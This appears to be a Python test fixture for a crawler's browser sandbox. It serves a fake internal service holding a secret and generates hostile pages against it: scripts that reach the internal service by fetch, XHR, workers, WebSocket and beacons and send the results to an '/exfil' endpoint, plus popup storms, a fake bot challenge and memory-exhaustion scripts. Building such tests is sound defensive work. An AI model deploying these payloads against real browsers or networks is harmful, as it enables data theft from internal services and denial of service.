"""Hostile pages for the browser tier, and the internal services they aim at.

``InternalServer`` stands in for a service inside the network (an admin console, a metadata endpoint) on
another loopback address (Linux routes all of 127/8 to lo): it notes every TCP connection and every
request it receives and answers each one with a page holding ``SECRET``. The pages are articles on the
crawl's site (``tests.faults.server.FaultServer`` on 127.0.0.1) whose scripts try to reach it.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tests.faults.pages import PARAGRAPHS, article_html

SECRET = "INTERNAL-SECRET-7f3a9c"


@dataclass(frozen=True)
class InternalHit:
    method: str
    host: str
    path: str


class _Handler(BaseHTTPRequestHandler):
    server: _Server
    protocol_version = "HTTP/1.1"

    def _answer(self) -> None:
        self.server.internal.note(InternalHit(self.command, self.headers.get("Host", ""), self.path))
        body = f"<html><head><title>{SECRET}</title></head><body><p>{SECRET}</p></body></html>".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_POST = do_HEAD = do_OPTIONS = do_PUT = _answer

    def log_message(self, format: str, *args: Any) -> None:
        pass


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    internal: InternalServer

    def get_request(self) -> Any:
        accepted = super().get_request()
        self.internal.note_connection()
        return accepted

    def handle_error(self, request: Any, client_address: Any) -> None:
        pass


class InternalServer:
    """``with InternalServer("127.0.0.5") as srv:`` an internal service on http://127.0.0.5:<port>."""

    def __init__(self, host: str) -> None:
        self.hits: list[InternalHit] = []
        self.connections = 0
        self._lock = threading.Lock()
        self.httpd = _Server((host, 0), _Handler)
        self.httpd.internal = self
        self.host = host
        self.port: int = self.httpd.server_address[1]
        self.base_url = f"http://{host}:{self.port}"
        self._thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def note(self, hit: InternalHit) -> None:
        with self._lock:
            self.hits.append(hit)

    def note_connection(self) -> None:
        with self._lock:
            self.connections += 1

    def __enter__(self) -> InternalServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def article(title: str, extra: str = "") -> bytes:
    """A good article (JSON-LD, paragraphs) with ``extra`` markup and scripts at the end of its body."""
    html = article_html(title, paragraphs=(f"{title}: the council met again.", *PARAGRAPHS))
    return html.replace("</body>", extra + "</body>").encode()


def challenge_page(target: str, how: str = "script") -> bytes:
    """A bot challenge that "clears" by sending the browser to ``target`` (script or meta refresh)."""
    go = (
        f"<meta http-equiv='refresh' content='0;url={target}'>"
        if how == "meta"
        else f"<script>document.cookie = 'cf_clearance=ok; path=/';"
        f"setTimeout(() => {{ location.href = {json.dumps(target)}; }}, 200);</script>"
    )
    return (
        "<!DOCTYPE html><html><head><title>Just a moment...</title>"
        f"{go}</head><body><div id='cf-chl-widget'>Checking your browser before accessing the site. "
        "Enable JavaScript and cookies to continue.</div></body></html>"
    ).encode()


def subresources(site: str, internal: str, internal_port: int, other_service: str) -> str:
    """Every way a page loads from an internal service, and sends back out what it got."""
    exfil = f"{site}/exfil?d="
    worker = (
        f"fetch('{internal}/worker').then(r => r.text())"
        f".then(t => fetch('{exfil}' + encodeURIComponent(t))).catch(() => fetch('{exfil}worker-failed'));"
    )
    return f"""
<iframe src="{internal}/frame"></iframe>
<script src="{internal}/script.js"></script>
<link rel="stylesheet" href="{internal}/style.css">
<img src="{internal}/pixel.png">
<link rel="prefetch" href="{internal}/prefetch">
<script>
  const out = (what) => fetch('{exfil}' + encodeURIComponent(what)).catch(() => 0);
  fetch('{internal}/api/secret').then(r => r.text()).then(out).catch(() => out('fetch-failed'));
  const xhr = new XMLHttpRequest();
  xhr.open('GET', '{internal}/xhr');
  xhr.onload = () => out(xhr.responseText);
  xhr.onerror = () => out('xhr-failed');
  xhr.send();
  fetch('{site}/bounce-to-internal').then(r => r.text()).then(out).catch(() => out('bounce-failed'));
  fetch('{other_service}/by-name').then(r => r.text()).then(out).catch(() => out('name-failed'));
  new Worker(URL.createObjectURL(new Blob([{json.dumps(worker)}], {{type: 'text/javascript'}})));
  try {{
    const ws = new WebSocket('ws://{internal.split("//", 1)[1]}/ws');
    ws.onmessage = (m) => out(String(m.data));
  }} catch (e) {{}}
  new EventSource('{internal}/events');
  navigator.sendBeacon('{internal}/beacon', 'x');
</script>"""


def popup_storm(site: str, internal: str, count: int) -> str:
    return f"""
<a id="blank" href="{site}/popup/link" target="_blank">more</a>
<form id="form" action="{internal}/popup-form" target="_blank"></form>
<script>
  for (let i = 0; i < {count}; i++) window.open('{site}/popup/' + i);
  window.open('{internal}/popup');
  document.getElementById('blank').click();
  document.getElementById('form').submit();
</script>"""


def huge_dom(nodes: int) -> str:
    """A script that builds ``nodes`` elements in one go (the renderer is busy all along)."""
    return f"""
<script>
  for (let i = 0; i < {nodes}; i++) {{
    const row = document.createElement('div');
    row.textContent = 'row ' + i + ' of a table nobody asked for';
    document.body.appendChild(row);
  }}
</script>"""


def heap_hog(megabytes: int) -> str:
    """Arrays kept alive on the JavaScript heap, 2 MiB (of doubles) every 5 ms, before the page has loaded."""
    return f"""
<script>
  const kept = [];
  for (let i = 0; i < {megabytes} / 2; i++) {{
    kept.push(new Array(1 << 18).fill(i + 0.5));
    const until = Date.now() + 5;
    while (Date.now() < until) {{}}
  }}
  document.title = kept.length + ' arrays';
</script>"""


def memory_hog(megabytes: int) -> str:
    """Memory outside the JavaScript heap and the DOM (typed arrays), 16 MiB every 30 ms, before the page
    has loaded."""
    return f"""
<script>
  const buffers = [];
  for (let i = 0; i < {megabytes} / 16; i++) {{
    const b = new Uint8Array(16 << 20);
    b.fill(7);
    buffers.push(b);
    const until = Date.now() + 30;
    while (Date.now() < until) {{}}
  }}
</script>"""
